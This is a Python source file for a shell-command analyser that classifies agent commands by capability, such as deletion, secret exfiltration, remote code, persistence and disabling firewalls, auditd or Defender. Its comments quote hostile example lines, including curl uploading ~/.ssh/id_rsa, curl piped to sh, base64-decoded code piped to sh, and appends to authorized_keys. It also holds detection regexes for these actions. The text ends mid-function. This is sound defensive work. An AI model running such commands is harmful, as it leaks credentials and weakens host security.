"""What a shell command line does, read with a real shell parser (bashlex) rather than word lists.

A line is parsed into its simple commands (through ``&&``, ``||``, ``;``, pipes, subshells, loops, command
substitution, ``bash -c '…'``, ``sudo``/``env``/``timeout``/``xargs`` wrappers) and each program is
judged by what it is known to do with its arguments: ``rm -rf /var/log`` deletes a log folder, ``curl -F
file=@~/.ssh/id_rsa https://…`` sends a private key out, ``usermod -aG sudo bob`` changes who is root,
``python -c "…"`` runs code that is read the same way (:mod:`detectors.capabilities.code`).

The result (:class:`ShellFacts`) says which capabilities the line has, why, and the facts detectors need
beyond them (paths deleted and sent, destinations, whether a system path or a device is hit, whether the
line runs as root). Lines bashlex cannot parse fall back to a plain split, which is still far better than
nothing. Memoised per line: agents repeat the same commands.
"""

from __future__ import annotations

import functools
import itertools
import posixpath
import re
import shlex
from collections.abc import Iterator
from dataclasses import dataclass, field

import bashlex

from detectors.capabilities import words
from detectors.capabilities.code import code_facts
from detectors.capabilities.paths import (
    LOGIN_URL,
    TEMPORARY,
    data_in_host,
    host_of,
    is_audit_evidence,
    is_device,
    is_home_dotfile,
    is_local_host,
    is_log_path,
    is_remote_spec,
    is_secret_path,
    is_service_data,
    is_system_path,
    urls_in,
)
from schemas.types import Capability as C

MAX_LINE = 20_000  # longer lines are judged on their first characters (a pasted file is not a command)
MAX_DEPTH = 4  # bash -c inside bash -c …


@dataclass
class ShellFacts:
    capabilities: dict[C, str] = field(default_factory=dict)  # capability -> why (the first reason)
    programs: list[str] = field(default_factory=list)
    deleted: list[str] = field(default_factory=list)  # paths removed or overwritten destructively
    written: list[str] = field(default_factory=list)
    outputs: list[str] = field(default_factory=list)  # of those, where a redirection or ``tee`` saves output
    read: list[str] = field(default_factory=list)
    sent: list[str] = field(default_factory=list)  # local files that leave the host
    destinations: list[str] = field(default_factory=list)  # URLs and hosts contacted
    executed: list[str] = field(default_factory=list)  # scripts the line runs (``./x.sh``, ``bash x.sh``)
    added: list[str] = field(default_factory=list)  # ``git add``ed paths: a later ``git push`` sends them
    flags: set[str] = field(default_factory=set)  # see FLAGS
    privileged: bool = False

    def add(self, capability: C, why: str) -> None:
        self.capabilities.setdefault(capability, why)

    def summary(self, flags: set[str]) -> dict[str, object]:
        """What an alert shows of the line: its flags (with a seen script's), programs and deletes."""
        return {
            "flags": sorted(f for f in flags if f in FLAGS),
            "staged": sorted(f for f in flags if f.startswith("staged:")),
            "deleted": self.deleted[:10],
            "programs": self.programs[:10],
            "privileged": self.privileged,
        }

    def merge(self, other: ShellFacts) -> None:
        for capability, why in other.capabilities.items():
            self.add(capability, why)
        self.programs += other.programs
        self.deleted += other.deleted
        self.written += other.written
        self.outputs += other.outputs
        self.read += other.read
        self.sent += other.sent
        self.destinations += other.destinations
        self.executed += other.executed
        self.added += other.added
        self.flags |= other.flags
        self.privileged = self.privileged or other.privileged


# What the flags mean (detectors read them; ``chainwatch tools`` prints them).
FLAGS = {
    "recursive_delete": "removes a directory tree",
    "system_path": "acts on a top-level system location (/, /etc, /usr, the whole home …)",
    "log_path": "acts on logs or shell history",
    "audit_evidence": "removes security or audit records (security_logs.txt, audit_trail.csv, access.log)",
    "service_data": "acts on where a service keeps its data (/var/lib/<service>, /srv/…, /data/…)",
    "volumes_removed": "removes a service's data volumes (docker volume rm, prune --volumes, down -v, a pvc)",
    "device_write": "writes to a raw disk device",
    "firewall_off": "flushes or disables the host firewall or SELinux",
    "kills_processes": "kills processes",
    "persistence": "persists: runs again or logs in again later (cron, systemd, shell profile, a login key)",
    "world_writable": "makes files writable by everyone",
    "user_admin": "adds, removes or elevates users and groups",
    "secret_read": "reads a file that holds a secret",
    "secret_sent": "sends a secret file out",
    "env_dump": "prints the environment (which holds tokens)",
    "remote_code": "runs code nobody reviewed: fetched from the network or decoded first (base64, hex)",
    "history_erased": "erases shell history",
    "force_push": "rewrites remote history",
    "default_branch": "acts on the default branch (main, master)",
    "infra_destroy": "destroys the infrastructure a stack manages (terraform/tofu/pulumi destroy)",
    "shutdown": "shuts the host down",
    "privileged": "runs as root (sudo, doas, su)",
    "decoded_code": "runs code it decoded first (base64, hex): nobody can read it",
    "fetched_package": "fetches a package from its registry and runs it at once",
    "backup_data": "removes backups, archives or snapshots (the copies to restore from)",
}

_STACK_TOOLS = frozenset({"terraform", "tofu", "terragrunt", "pulumi", "cdk", "cdktf"})
_WRAPPERS = frozenset(
    "sudo doas nohup time timeout nice ionice stdbuf exec command builtin env xargs unbuffer chronic".split()
)
_WRAPPER_VALUE_OPTIONS = {
    "sudo": {"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U"},
    "timeout": {"-s", "-k", "--signal", "--kill-after"},
    "nice": {"-n"},
    "ionice": {"-c", "-n"},
    "xargs": {"-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a"},
    "env": {"-u", "-C"},
}
_SUBCOMMAND = re.compile(r"^[a-z][a-z0-9]*(?:[-_][a-z0-9]+)*$")  # a word, not a path, value or option
_SHELLS = frozenset("bash sh zsh dash ksh fish ash".split())
_INTERPRETERS = frozenset(
    "python python2 python3 node nodejs deno ruby perl php lua Rscript pwsh powershell".split()
)
_READERS = frozenset(
    """cat less more head tail grep egrep fgrep rg ag ack find locate ls ll dir tree stat file wc du df diff
    cmp sort uniq cut awk gawk jq yq xq strings hexdump xxd od md5sum sha1sum sha256sum sha512sum cksum which
    whereis type echo printf pwd whoami id groups hostname uname date ps pstree top htop free uptime lsof
    netstat ss ip ifconfig mount lsblk blkid realpath readlink basename dirname test true false sleep
    base64 column nl tac rev fold fmt pr tr expand seq yes history man help info apropos pdftotext
    pdfinfo exiftool identify ffprobe sqlite3 journalctl dmesg last w who getent nproc lscpu env printenv
    set declare export alias unalias cd pushd popd source wait read let echo clear tput view zcat zgrep bzcat
    xzcat bat glow""".split()
)
_WRITERS = frozenset(
    """cp mv tee touch mkdir ln install patch rsync_local tar zip unzip gzip gunzip bzip2 bunzip2 xz unxz 7z
    7za rar unrar sed perl_i convert ffmpeg pandoc sort_o split csplit iconv dos2unix mktemp mkfifo
    update-alternatives ldconfig locale-gen timedatectl hostnamectl""".split()
)
# programs that list folders and files without printing what files hold, and the filters of their output
_LISTERS = frozenset("ls ll dir tree find locate du df stat file realpath readlink basename dirname".split())
_FILTERS = frozenset("wc sort head tail grep uniq cut awk tr column nl sed".split())
_LISTING = _LISTERS | _FILTERS


def listing_only(facts: ShellFacts) -> bool:
    """A line that lists folders (``ls -lt /data/x | head``, ``find … | wc -l``) and reads no file: a filter
    given a file of its own (``ls docs/ && head -50 docs/README.md``) prints what the file holds."""
    programs = facts.programs
    return (
        bool(programs)
        and not _LISTERS.isdisjoint(programs)
        and _LISTING.issuperset(programs)
        and FILTER_READS_FILE not in facts.flags
    )


FILTER_READS_FILE = "filter_reads_file"  # (internal: not in FLAGS, so no alert shows it)
_PATTERN_FIRST = frozenset("grep awk sed".split())  # their first operand is a pattern or a script


# a sed command or ``s`` flag that writes a file or runs a line (``w f``, ``s/a/b/gw f``, ``1e cmd``)
_SED_WRITES = re.compile(r"(?:^|[;}\n/\d$!gpiImM])\s*[wWe](?:\s|$)")
_DELETERS = frozenset("rm rmdir unlink shred wipefs srm".split())
_KILLERS = frozenset("kill pkill killall skill xkill".split())
_SAYS_DELETE = frozenset(  # (Go programs take one dash: ``nomad job stop -purge``)
    "--delete --drop --purge --remove --destroy -delete -purge -destroy delete del drop purge destroy".split()
)
_JOB_CANCELLERS = frozenset("scancel qdel bkill condor_rm".split())  # Slurm, PBS/SGE, LSF, HTCondor
_SHUTDOWN = frozenset("shutdown reboot halt poweroff init telinit".split())
_USER_ADMIN = frozenset(
    "useradd adduser usermod userdel deluser groupadd addgroup groupmod groupdel delgroup gpasswd chpasswd "
    "passwd visudo chage newusers vipw".split()
)
_MAILERS = frozenset("mail mailx sendmail mutt msmtp ssmtp swaks".split())
_DECODERS = frozenset({"base64", "base32", "xxd", "uudecode", "openssl"})  # … | sh: the code is encoded
_PACKAGE = frozenset(
    "apt apt-get yum dnf zypper apk pacman brew pip pip3 pipx npm npx yarn pnpm gem cargo go".split()
)
_RUNNERS = frozenset(
    "make cmake ninja gradle mvn ant pytest tox nox jest mocha vitest go cargo dotnet java javac gcc g++ cc "
    "clang rustc tsc webpack vite docker podman kubectl oc helm terraform ansible ansible-playbook".split()
)
# schema migration tools: they change a database, whatever the migrations say
_PINNED_PACKAGE = re.compile(r"^(@[\w.-]+/)?[\w.-]+@(latest|next|\d[\w.-]*)$")
_MIGRATION_RUNNERS = frozenset("npx bunx pnpm yarn bundle python python3 poetry uv".split())
MAX_WEBHOOK_LINE = 2000
_MIGRATES = re.compile(
    r"\b(alembic (upgrade|downgrade|stamp)|flyway (migrate|clean|repair|undo)"
    r"|liquibase (update|rollback|drop-all)|prisma migrate (deploy|reset|dev)|knex migrate"
    r"|sequelize db:migrate|(rails|rake) db:(migrate|rollback|drop|reset)|manage\.py (migrate|flush)"
    r"|dbmate (up|down|migrate|drop)|goose \S+ (up|down|reset))\b"
)
_NET_FETCH = frozenset(
    "curl wget http https httpie aria2c lynx links w3m ping dig nslookup host traceroute".split()
)
_NET_SEND = frozenset("nc ncat netcat socat telnet ftp lftp sftp ssh scp rsync".split())
_CURL_SENDS = re.compile(
    r"^(-d|--data(-\w+)?|-F|--form(-string)?|-T|--upload-file|--json|-X|--request|--post\S*)$|^--data(-\w+)?="
)
_SENDING_METHODS = frozenset({"POST", "PUT", "PATCH"})
_FIREWALL_OFF = re.compile(
    r"^(iptables|ip6tables)\b.*\s-(F|X|Z)\b|^(iptables|ip6tables)\b.*-P\s+\w+\s+ACCEPT|^ufw\s+(disable|reset)"
    r"|^nft\s+flush|^setenforce\s+0|^systemctl\s+(stop|disable|mask)\s+(firewalld|ufw|iptables|nftables|apparmor"
    r"|auditd|falcon-sensor|osqueryd|wazuh-agent)|^service\s+(firewalld|ufw|iptables|auditd)\s+stop"
    r"|^auditctl\s+-D|^auditctl\s+-e\s*0"
    # Windows: the firewall profiles off, Defender's protections off
    r"|^Set-NetFirewallProfile\b.*-Enabled\s+\$?False|^netsh\s+advfirewall\s+set\s+\w+\s+state\s+off"
    r"|^Set-MpPreference\b.*-Disable\w+\s+\$?(true|1)",
    re.I,
)


def _basename(program: str) -> str:
    return posixpath.basename(program)


# ------------------------------------------------------------------------------------------------ parsing


@dataclass
class _Simple:
    argv: list[str]
    redirects_out: list[str] = field(default_factory=list)
    redirects_in: list[str] = field(default_factory=list)
    heredoc: str | None = None
    piped_in: bool = False
    substituted: set[str] = field(default_factory=set)  # programs inside its $(…) and <(…)


def _walk(node: bashlex.ast.node, out: list[_Simple], piped: bool = False) -> None:
    kind = node.kind
    if kind == "command":
        simple = _Simple([], piped_in=piped)
        for part in node.parts:
            if part.kind == "word":
                simple.argv.append(part.word)
                for child in getattr(part, "parts", []):  # $(…) and <(…) inside a word
                    if child.kind in ("commandsubstitution", "processsubstitution"):
                        inner: list[_Simple] = []
                        _walk(child.command, inner)
                        simple.substituted.update(_basename(s.argv[0]) for s in inner if s.argv)
                        out += inner
            elif part.kind == "redirect":
                target = part.output
                if getattr(part, "heredoc", None) is not None:
                    simple.heredoc = part.heredoc.value
                if hasattr(target, "word"):
                    (simple.redirects_in if part.type in ("<", "<<<") else simple.redirects_out).append(
                        target.word
                    )
            elif part.kind == "assignment":
                for child in getattr(part, "parts", []):
                    if child.kind in ("commandsubstitution", "processsubstitution"):
                        _walk(child.command, out)
        if simple.argv or simple.redirects_out:
            out.append(simple)
        return
    if kind == "pipeline":
        first = True
        for part in node.parts:
            if part.kind != "pipe":
                _walk(part, out, piped=not first)
                first = False
        return
    for part in getattr(node, "parts", None) or getattr(node, "list", None) or []:
        if isinstance(part, bashlex.ast.node) and part.kind not in ("operator", "reservedword", "pipe"):
            _walk(part, out, piped)
    if kind == "function" and getattr(node, "body", None) is not None:
        _walk(node.body, out)


def _split_fallback(line: str) -> list[_Simple]:
    simples = []
    for position, segment in enumerate(re.split(r"\|\||&&|[;\n]|\|", line)):
        try:
            argv = shlex.split(segment, posix=True)
        except ValueError:
            argv = segment.split()
        outs = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in (">", ">>")]
        argv = [
            a
            for i, a in enumerate(argv)
            if a not in (">", ">>") and (i == 0 or argv[i - 1] not in (">", ">>"))
        ]
        if argv:
            simples.append(_Simple(argv, outs, piped_in=position > 0))
    return simples


def simple_commands(line: str) -> list[_Simple]:
    """Every simple command of a line, in order (bashlex, or a plain split where it cannot parse)."""
    try:
        parts = bashlex.parse(line)
    except Exception:  # bashlex raises its own errors and some internal ones on odd input
        return _split_fallback(line)
    out: list[_Simple] = []
    for part in parts:
        _walk(part, out)
    return out


# ------------------------------------------------------------------------------------------------ judging


_SOURCES_CODE = frozenset({"eval", "source", "."})
_GENERATED = ("$(", "`", "<(")


def _code_substituted(program: str, args: list[str], simple: _Simple, facts: ShellFacts) -> None:
    """Code handed to a shell or interpreter by substitution (``bash -c "$(curl …)"``, ``bash <(wget …)``,
    ``eval "$(curl …)"``, ``source <(…)``): what runs is whatever the fetch or the decoder returned, the same
    as ``curl … | sh``."""
    if program not in _SHELLS and program not in _INTERPRETERS and program not in _SOURCES_CODE:
        return
    if not any(a.lstrip("\"'").startswith(_GENERATED) for a in _code_arguments(program, args)):
        return
    if simple.substituted & _NET_FETCH:
        facts.flags.add("remote_code")
    if simple.substituted & _DECODERS:
        facts.flags.update(("remote_code", "decoded_code"))


def _code_arguments(program: str, args: list[str]) -> list[str]:
    """The arguments that are the code a shell or interpreter runs: ``eval``'s words, the one after ``-c``
    or ``-e``, else the script (its first operand); not the script's own arguments (``bash deploy.sh
    "$(curl …)"`` runs the local script with what the fetch returned as data)."""
    if program == "eval":
        return args
    for i, arg in enumerate(args):
        if arg in ("-c", "-e", "--command", "-Command") or (
            arg.startswith("-") and arg.endswith("c") and arg[1:2] != "-"
        ):
            return args[i + 1 : i + 2]  # (``bash -c``, ``sh -ec``, ``python3 -c``, ``node -e``)
        if not arg.startswith("-"):
            return [arg]
    return []


def _unwrap(argv: list[str], facts: ShellFacts) -> list[str]:
    """Strip ``sudo``, ``env X=1``, ``timeout 5``, ``xargs -n1`` … and leading assignments."""
    while argv:
        head = _basename(argv[0])
        if re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", argv[0]):
            argv = argv[1:]
            continue
        if head not in _WRAPPERS:
            break
        if head in ("sudo", "doas"):
            facts.privileged = True
        takes_value = _WRAPPER_VALUE_OPTIONS.get(head, set())
        rest = argv[1:]
        while rest and (rest[0].startswith("-") or re.match(r"^[A-Za-z_]\w*=", rest[0])):
            option = rest.pop(0)
            if option in takes_value and rest:
                rest.pop(0)
        if head == "timeout" and rest and re.match(r"^\d", rest[0]):
            rest = rest[1:]
        argv = rest
    return argv


def _operands(argv: list[str]) -> list[str]:
    return [word for a in argv[1:] if not a.startswith("-") for word in braces_expanded(a)]


# ``ep142/{.render-cache,exports,stems}`` or a sequence, ``2023-{01..10}`` (no nesting)
_BRACES = re.compile(r"\{([^{}\s]*,[^{}\s]*|\d{1,4}\.\.\d{1,4})\}")
MAX_EXPANDED = 32
_SEQUENCE = re.compile(r"(\d{1,4})\.\.(\d{1,4})")


def _brace_parts(inside: str) -> list[str]:
    """The words of one brace: a comma list, or a number sequence keeping the first number's width."""
    sequence = _SEQUENCE.fullmatch(inside)
    if sequence is None:
        return inside.split(",")  # (a list may hold dots itself: ``{../a,b}``)
    low, high = sequence.groups()
    step = 1 if int(high) >= int(low) else -1
    width = len(low) if low.startswith("0") else 0
    return [str(n).zfill(width) for n in range(int(low), int(high) + step, step)][:MAX_EXPANDED]


def braces_expanded(word: str) -> list[str]:
    """The words the shell makes of one with a brace list or sequence (``a/{b,c}`` is ``a/b a/c``; ``{1..3}``
    is 1 2 3), at most 32: made in order and no more (thirty lists of two are 2**30 words)."""
    pending, words = [word], list[str]()
    while pending and len(words) < MAX_EXPANDED:
        first = pending.pop()
        found = _BRACES.search(first)
        if found is None:
            words.append(first)
            continue
        head, tail = first[: found.start()], first[found.end() :]
        pending += [head + part + tail for part in reversed(_brace_parts(found.group(1)))]
    return words


def _judge(simple: _Simple, facts: ShellFacts, depth: int) -> None:
    argv = _unwrap(list(simple.argv), facts)
    for target in simple.redirects_out:
        _written(target, facts, _REDIRECTED)
    for source in simple.redirects_in:
        _read(source, facts, "an input redirection")
    if not argv:
        return
    program = _basename(argv[0])
    facts.programs.append(program)
    _code_substituted(program, argv[1:], simple, facts)
    if program in _FILTERS and not simple.piped_in and not simple.redirects_in:
        files = _operands(argv)[1 if program in _PATTERN_FIRST else 0 :]
        if any(not f.isdigit() for f in files):  # (``head -n 20``: the 20 is a count)
            facts.flags.add(FILTER_READS_FILE)
    args = argv[1:]
    operands = _operands(argv)
    joined = " ".join(argv)[:MAX_WEBHOOK_LINE]  # a standing channel out, like a forwarding rule
    if program != "git" and _WEBHOOK.search(joined) and (urls := urls_in(joined)):
        facts.add(C.EGRESS, f"{program} registers a webhook: events will be sent to {urls[0][:60]}")
        facts.destinations += urls[:4]
    runner = 1 if program in _MIGRATION_RUNNERS else 0  # ``npx prisma …``, ``python manage.py …``
    if _MIGRATES.match(" ".join(argv[runner : runner + 6])):
        if re.search(r"\b(reset|drop|drop-all|flush|clean)\b", " ".join(argv[runner : runner + 6])):
            facts.add(C.DELETE, f"{program} resets the database: every table dropped and rebuilt")
        facts.add(C.WRITE, "applies database migrations")
        facts.add(C.EXECUTE, f"{program} runs migration code")
        return
    if program in _SHELLS:
        if "-c" in args and args.index("-c") + 1 < len(args):
            facts.merge(analyse(args[args.index("-c") + 1], depth + 1))
        else:
            facts.add(C.EXECUTE, f"runs a {program} script")
            facts.executed += operands[:1] or simple.redirects_in[:1]  # ``bash -s < setup.sh`` runs setup.sh
            if simple.piped_in and any(p in _NET_FETCH for p in facts.programs):
                facts.flags.add("remote_code")  # curl … | sh
            if simple.piped_in and _DECODERS & set(facts.programs):
                facts.flags.add("remote_code")  # echo <base64> | base64 -d | sh: code nobody can read
                facts.flags.add("decoded_code")
        return
    if program == "su" and "-c" in args and args.index("-c") + 1 < len(args):
        facts.privileged = True
        facts.merge(analyse(args[args.index("-c") + 1], depth + 1))
        return
    if program in _INTERPRETERS:
        flag = "-c" if program.startswith(("python", "pwsh", "powershell")) else "-e"
        if flag in args and args.index(flag) + 1 < len(args):
            facts.merge(analyse_code(args[args.index(flag) + 1], depth + 1))
        elif program.startswith("python") and "-m" in args:
            facts.add(
                C.EXECUTE,
                f"runs python -m {args[args.index('-m') + 1] if args.index('-m') + 1 < len(args) else ''}",
            )
            if "http.server" in args:
                facts.add(C.EGRESS, "serves files over HTTP")
        else:
            facts.add(C.EXECUTE, f"runs a {program} program")
            facts.executed += [a for a in operands[:1] if not a.startswith("-")]
            if simple.piped_in and any(p in _NET_FETCH for p in facts.programs):
                facts.flags.add("remote_code")
            if simple.piped_in and _DECODERS & set(facts.programs):
                facts.flags.add("remote_code")
        return
    if _CMDLET.match(program) or program.lower() in _PS_ALIASES:
        if _FIREWALL_OFF.search(" ".join([program, *args])):
            facts.flags.add("firewall_off")
            facts.add(C.WRITE, f"{program} turns off a host defence")
            return
        _powershell(program, args, operands, facts)
        return
    line = " ".join([program, *args])
    if _FIREWALL_OFF.search(line):
        facts.flags.add("firewall_off")
        facts.add(C.WRITE, f"{program} turns off a host defence")
        return
    if program in _DELETERS:
        _delete(program, args, operands, facts)
        return
    if program in _JOB_CANCELLERS:
        facts.add(C.DELETE, f"{program} cancels batch jobs")
        return
    if program in _KILLERS:
        facts.flags.add("kills_processes")
        facts.add(C.DELETE, f"{program} kills processes")
        return
    if program in _SHUTDOWN:
        facts.flags.add("shutdown")
        facts.add(C.DELETE, f"{program} stops the host")
        return
    if program in _STACK_TOOLS and "destroy" in args[:3]:
        facts.flags.add("infra_destroy")
        facts.add(C.DELETE, f"{program} destroy deletes every resource of the stack")
        return
    if program in _USER_ADMIN:
        facts.flags.add("user_admin")
        facts.add(C.IDENTITY, f"{program} changes users or groups")
        if program in ("userdel", "deluser", "groupdel", "delgroup"):
            facts.add(C.DELETE, f"{program} removes an account")
        if program in ("passwd", "chpasswd"):
            facts.add(C.SECRET, f"{program} sets a password")
        return
    if program in ("chmod", "chown", "chgrp", "setfacl", "chattr", "icacls", "cacls"):
        facts.add(C.IDENTITY, f"{program} changes who may access files")
        facts.add(C.WRITE, f"{program} changes file attributes")
        if program == "chmod" and any(
            re.fullmatch(r"0?[0-7]?7[0-7]7|a\+w|o\+w|\+w|ugo\+rwx|a\+rwx", a) for a in args
        ):
            facts.flags.add("world_writable")
        for path in operands[1:]:
            if is_system_path(path):
                facts.flags.add("system_path")
        return
    if program in ("dd",):
        output = next((a[3:] for a in args if a.startswith("of=")), "")
        input_ = next((a[3:] for a in args if a.startswith("if=")), "")
        if input_:
            _read(input_, facts, "dd reads it")
        if output and is_device(output):
            facts.flags.add("device_write")
            facts.add(C.DELETE, "dd overwrites a disk device")
        elif output:
            _written(output, facts, "dd writes it")
        return
    if program.startswith("mkfs") or program in (
        "wipefs",
        "fdisk",
        "parted",
        "sgdisk",
        "hdparm",
        "blkdiscard",
    ):
        facts.flags.add("device_write")
        facts.add(C.DELETE, f"{program} reformats or erases a disk")
        return
    if program in ("truncate",) and ("-s" in args or any(a.startswith("--size") for a in args)):
        for path in operands:
            _deleted(path, facts, "truncate empties it")
        return
    if program == "systemctl" and next((a for a in args if not a.startswith("-")), "") in _SYSTEMCTL_READS:
        facts.add(
            C.READ, "systemctl reports a service's state"
        )  # (``is-active signalbox-web``: no web fetch)
        return
    if program in ("crontab", "at", "batch") or (program == "systemctl" and args[:1] == ["enable"]):
        facts.flags.add("persistence")
        facts.add(C.WRITE, f"{program} schedules a program")
        facts.add(C.EXECUTE, f"{program} schedules a program")
        if program == "crontab" and "-r" in args:
            facts.add(C.DELETE, "crontab -r removes every scheduled job")
        return
    if program in ("history",) and "-c" in args:
        facts.flags.add("history_erased")
        facts.add(C.DELETE, "history -c erases the shell history")
        return
    if program in ("configure", "commit", "conf"):  # a network device's CLI over ssh (Junos, VyOS, IOS)
        facts.add(C.WRITE, f"{program} changes the device's configuration")
        return
    if program in ("env", "printenv", "set", "export", "declare") and not operands:
        facts.flags.add("env_dump")
        facts.add(C.SECRET, f"{program} prints the environment")
        facts.add(C.READ, f"{program} prints the environment")
        return
    if program == "git":
        _git(args, operands, facts)
        return
    if program == "redis-cli" and (found := _redis_of(args)):
        facts.add(found[0], f"redis-cli {found[1]}")
        return
    if program in _SQL_CLIENTS and (sql := _sql_of(program, args, operands)):
        facts.add(sql[0], f"{program} runs SQL {sql[1]}")
        return
    # any other program handed a statement that changes data (``wp db query "UPDATE …"``, ``rails dbconsole``
    # input, a framework's ``db execute``): the statement is what it runs
    if changing := [sql for a in operands if _CHANGING_SQL.match(a) and (sql := words.sql_capability(a))]:
        facts.add(changing[0][0], f"{program} runs SQL {changing[0][1]}")
        return
    if program == "gh" and operands[:2] == ["repo", "create"] and "--push" in args:  # the repository leaves
        facts.sent.append("<the repository>")
        facts.destinations.append(f"https://github.com/{operands[2] if len(operands) > 2 else ''}")
        facts.add(
            C.EGRESS,
            "gh repo create --push publishes the repository" + (" publicly" if "--public" in args else ""),
        )
        return
    if program in ("huggingface-cli", "hf") and operands[:1] == ["upload"] and len(operands) >= 3:
        _sent(operands[2], facts, f"{program} upload publishes it")
        facts.destinations.append(f"https://huggingface.co/{operands[1]}")
        return
    if program == "gh" and operands[:2] == ["gist", "create"]:  # files published as a gist
        valued = {"-d", "--desc", "-f", "--filename"}
        for path in [a for i, a in enumerate(args) if not a.startswith("-") and args[i - 1] not in valued][
            2:
        ]:
            _sent(path, facts, "gh gist create publishes it")
        facts.destinations.append("https://gist.github.com")
        facts.add(C.EGRESS, "gh gist create publishes files" + (" publicly" if "--public" in args else ""))
        return
    if program == "gh" and operands[:1] == ["api"] and len(operands) >= 2:
        _gh_api(args, operands[1:], facts)
        return
    if _VAULT_ACCESS.match(" ".join([program, *operands[:3]])):
        facts.add(C.IDENTITY, f"{program} changes who may open a vault")
        return
    if (stored := _secret_store(program, operands)) is not None:
        facts.add(C.SECRET, f"{program} {stored} a secret store")
        facts.add(C.WRITE if stored == "writes to" else C.READ, f"{program} {stored} a secret store")
        return
    if program in _NET_FETCH:
        _fetch_or_send(program, args, facts, simple)
        return
    if program in _NET_SEND:
        _send(program, args, operands, facts, simple)
        return
    if program in _MAILERS:
        facts.add(C.COMMUNICATE, f"{program} sends e-mail")
        if simple.redirects_in or simple.piped_in:
            facts.add(C.EGRESS, f"{program} mails data")
        return
    if program in ("aws", "gsutil", "gcloud", "az", "rclone", "s3cmd"):
        _cloud_cli(program, args, operands, facts)
        return
    if program in ("find",):
        if "-delete" in args or ("-exec" in args and any(_basename(a) in _DELETERS for a in args)):
            # what it deletes is what its name patterns match under the root (``-name build`` under /srv/ci)
            # (every starting point: ``find /san/render_cache /san/projects/*/renders -name … -delete``)
            starts = list(itertools.takewhile(lambda a: not a.startswith(("-", "(", "!")), args))
            roots = [r.rstrip("/") or "/" for r in starts] or [(operands[:1] or ["."])[0].rstrip("/") or "/"]
            names = [
                args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-name", "-iname", "-path", "-ipath")
            ]
            for root in roots[:8]:
                for path in [f"{root}/{n.lstrip('/')}" for n in names] or [root]:
                    _deleted(path, facts, "find deletes what it matches")
            facts.flags.add("recursive_delete")
        else:
            facts.add(C.READ, "find lists files")
        return
    in_place = any(a.startswith("--in-place") or (a[:1] == "-" != a[1:2] and "i" in a[1:]) for a in args)
    if program in ("sed", "perl") and in_place:  # ``-i``, ``-i.bak``, ``-Ei``, ``--in-place=.bak``
        for path in operands[1:]:
            _written(path, facts, f"{program} -i edits it")
        return
    # without -i it prints its edit (``… | sed 's/:[^@]*@/:****@/'``), unless its script writes a file or
    # runs a command (``w /root/.ssh/authorized_keys``, ``s/…/…/w out``, ``1e curl …``)
    if program == "sed" and not any(_SED_WRITES.search(a) for a in args):
        facts.add(C.READ, "sed filters text")
        return
    if (inner := _exec_command(program, args)) is not None:
        # ``kubectl exec pod -- sh -c '…'``, ``docker exec web rm -rf /data``: judged as a line of its own
        facts.merge(_analyse_cached(shlex.join(inner), depth + 1))
        facts.add(C.EXECUTE, f"{program} exec runs a command in a container")
        return
    if program in ("docker", "podman", "kubectl", "oc", "helm", "terraform"):  # (oc: OpenShift's kubectl)
        _orchestrator(program, args, facts)
        return
    if program in _PACKAGE:
        if any(a in ("install", "add", "i", "update", "upgrade", "get") for a in args):
            facts.add(C.EXECUTE, f"{program} installs software")
            facts.add(C.FETCH, f"{program} downloads packages")
        elif any(a in ("uninstall", "remove", "purge", "autoremove", "rm") for a in args):
            facts.add(C.DELETE, f"{program} removes software")
        elif program == "npx" or any(a in ("run", "exec", "start", "test", "dlx") for a in args):
            facts.add(C.EXECUTE, f"{program} runs a program")
            if program in ("npx", "pnpm", "yarn", "pipx") and (
                {"--yes", "-y", "dlx"} & set(args) or any(_PINNED_PACKAGE.match(a) for a in args[:3])
            ):  # ``npx --yes tool@latest``: a package fetched and run at once (graver only with a secret
                facts.flags.add("fetched_package")  # the line hands it: capabilities/danger.py)
                facts.add(C.FETCH, f"{program} downloads the package it runs")
        else:
            facts.add(C.READ, f"{program} queries packages")
        return
    if program in ("ssh-keygen",):
        facts.add(C.SECRET, "ssh-keygen makes or reads a key")
        facts.add(C.WRITE, "ssh-keygen writes a key file")
        return
    if program == "openssl" and operands[:1] == ["rand"]:
        facts.add(C.EXECUTE, "openssl rand makes random bytes (a new password, no secret read)")
        return
    if program == "gpg" and _ENCRYPTS.intersection(args) and not _GPG_SECRET_WORK.intersection(args):
        # encrypting for a recipient uses their public key: the file is read; the sealed copy written beside
        # it (``-o x.gpg``) is a copy to send, which changes nothing the session holds
        for path in _gpg_files(args):
            _read(path, facts, "gpg encrypts it")
        return
    if program == "gpg" and _VERIFIES.intersection(args) and not _GPG_SECRET_WORK.intersection(args):
        # checking a signature takes public keys only: the signature and the signed file are read, no secret
        facts.add(C.READ, "gpg verifies a signature (with public keys)")
        facts.read.extend(_gpg_files(args))
        return
    if program in ("openssl", "gpg", "age"):
        facts.add(C.SECRET, f"{program} handles keys or encrypted data")
        for path in operands:
            if is_secret_path(path):
                _read(path, facts, f"{program} reads it")
        return
    if program in _READERS:
        facts.add(C.READ, f"{program} reads")
        for path in operands:
            if "/" in path or "." in path:
                _read(path, facts, f"{program} reads it")
        return
    if program in _WRITERS:
        facts.add(C.WRITE, f"{program} writes files")
        if program in ("cp", "mv", "rsync_local") and operands:
            for path in operands[:-1]:
                _read(path, facts, f"{program} copies it")
            _written(operands[-1], facts, f"{program} writes it")
            if program == "mv":
                for path in operands[:-1]:
                    if is_system_path(path) or is_log_path(path):
                        _deleted(path, facts, "mv moves it away")
        elif (
            program == "tee" and operands
        ):  # ``… | sudo tee -a ~/.ssh/authorized_keys``: its files are written
            for path in operands:
                _written(path, facts, _TEED)
        elif program in ("tar", "zip", "7z", "7za") and operands:
            for path in operands:
                if is_secret_path(path):
                    _read(path, facts, f"{program} packs it")
        return
    if program in _RUNNERS:
        facts.add(C.EXECUTE, f"{program} builds or runs code")
        return
    if program in ("ssh",):
        _send(program, args, operands, facts, simple)
        return
    if program in ("cd", ":", "true", "false", "exit", "return", "shift", "local", "unset", "trap", "umask"):
        facts.add(C.READ, f"{program} is a shell builtin")
        return
    if _MONGO.match(statement := " ".join(argv)):  # a MongoDB shell statement, ``db.x.deleteMany({})``
        facts.add(*_mongo_of(statement))
        return
    # A program nobody described: it runs. Scripts by path (./x.sh, /opt/y) the same. One that says it
    # deletes (``kafka-topics.sh --delete``, ``etcdctl del``) deletes too.
